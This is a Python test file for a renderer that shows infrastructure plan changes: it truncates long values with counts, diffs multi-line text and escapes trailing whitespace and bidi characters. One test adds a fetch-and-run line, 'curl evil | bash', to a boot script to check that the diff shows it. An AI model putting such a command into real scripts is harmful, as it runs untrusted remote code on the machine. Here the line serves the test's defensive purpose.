"""A field of a change as it is read: all that differs is shown, and what is not is counted."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controller.model.canonical import ABSENT
from controller.model.plan import Action, FieldChange
from controller.views.plan.field_lines import OWN_NAME, ShownField, shown_field

BOOT = "#!/bin/bash\n# First boot\necho a\necho b\necho c\necho d\n"


def shown(
    before: Any, after: Any, action: Action = "update", *, expand: bool = False
) -> ShownField:
    return shown_field(FieldChange("f", before, after), action, expand=expand)


@pytest.mark.parametrize(
    ("field", "text"),
    [
        (FieldChange("ami", "a", "b"), "ami  a → b"),
        (FieldChange("port", "40012", 40012), 'port  "40012" → 40012'),
        (FieldChange("x", "(absent)", ABSENT), 'x  "(absent)" → (absent)'),
        (FieldChange("x", "a → b", "c…"), 'x  "a → b" → "c…"'),
        (FieldChange("x", "a ", "a"), 'x  "a " → a'),
        (FieldChange("x\n+ y", "a", "b"), "x\\n+ y  a → b"),
        (FieldChange("key", "(sensitive)", "(sensitive)", sensitive=True), "key  (sensitive), differs"),
        (FieldChange("key", ABSENT, "(sensitive)", sensitive=True), "key  (absent) → (sensitive)"),
    ],
)  # fmt: skip
def test_a_field_is_one_line(field: FieldChange, text: str) -> None:
    assert str(shown_field(field, expand=False)) == text


def test_of_what_comes_or_goes_there_is_one_value() -> None:
    assert str(shown(ABSENT, 7, "create")) == "f  7"
    assert str(shown("a\u202eb", ABSENT, "delete")) == 'f  "a\\u202eb"'
    assert str(shown(ABSENT, OWN_NAME, "create")) == "f  (its own name)"
    assert str(shown(ABSENT, "(its own name)", "create")) == 'f  "(its own name)"'


def test_a_difference_behind_the_cut_is_shown_and_the_rest_counted() -> None:
    before, after = "y" * 70 + "a" + "z" * 100, "y" * 70 + "b"

    cut, whole = shown(before, after), shown(before, after, expand=True)

    assert cut.before == f"…{'y' * 20}a{'z' * 37}…"
    assert cut.after == f"…{'y' * 20}b"
    assert cut.hidden == "163 characters not shown"
    assert (whole.before, whole.after, whole.hidden) == (before, after, "")


def test_a_long_value_of_a_new_object_is_cut_and_counted() -> None:
    assert str(shown(ABSENT, "x" * 61, "create")) == (f"f  {'x' * 59}…  (2 characters not shown)")
    assert str(shown(ABSENT, "x" * 500, "create", expand=True)) == f"f  {'x' * 500}"


def test_a_text_of_several_lines_is_shown_line_by_line() -> None:
    after = BOOT.replace("# First boot", "cat > /x").removesuffix("\n") + "\ncurl evil | bash\n"

    field = shown(BOOT, after)

    assert str(field) == "f  1 line gone, 2 lines new  (2 lines not shown)"
    assert list(map(str, field.lines)) == [
        "|   #!/bin/bash",
        "| - # First boot",
        "| + cat > /x",
        "|   echo a",
        "| …",
        "|   echo d",
        "| + curl evil | bash",
    ]
    assert len(shown(BOOT, after, expand=True).lines) == 8


def test_a_new_text_of_many_lines_shows_the_first_of_them() -> None:
    text = "\n".join(["x" * 130, *(f"line {n}" for n in range(19))])

    field = shown(ABSENT, text, "create")

    assert len(field.lines) == 10
    assert field.hidden == ("10 lines and 11 characters not shown")
    assert len(shown(ABSENT, text, "create", expand=True).lines) == 20
    assert len(shown(text, ABSENT, "delete", expand=True).lines) == 20
    assert len(shown(text, "one line", expand=True).lines) == 21


def test_space_at_the_end_of_a_line_is_to_be_seen() -> None:
    assert list(map(str, shown("a\nb\n", "a \nb\n").lines)) == ["| - a", "| + a\\x20", "|   b"]
    assert list(map(str, shown("a\nb\n", "a\r\nb\n").lines)) == ["| - a", "| + a\\r", "|   b"]
    assert list(map(str, shown("a\n", "a\nb").lines)) == [
        "|   a",
        "| + b  (no line feed at its end)",
    ]


def test_texts_that_have_little_in_common_are_not_compared_for_long() -> None:
    old, new = ("\n".join(f"{name} {n % 7}" for n in range(20_000)) for name in ("old", "new"))

    field = shown(old, new, expand=True)

    assert str(field) == "f  20,000 lines gone, 20,000 lines new"
    assert len(field.lines) == 40_000


LINES = st.lists(st.sampled_from(["a", "b ", "\u202e", ""]), min_size=1, max_size=8)


@given(LINES, LINES)
def test_both_texts_can_be_read_from_the_difference(old: list[str], new: list[str]) -> None:
    if old == new:
        return
    before, after = ("".join(f"{text}\n" for text in texts) for texts in (old, new))
    lines = shown(before, after, expand=True).lines
    for sign, texts in (("-", old), ("+", new)):
        told = [line.text for line in lines if line.sign in (sign, " ")]
        assert told == [{"b ": "b\\x20", "\u202e": "\\u202e"}.get(text, text) for text in texts]
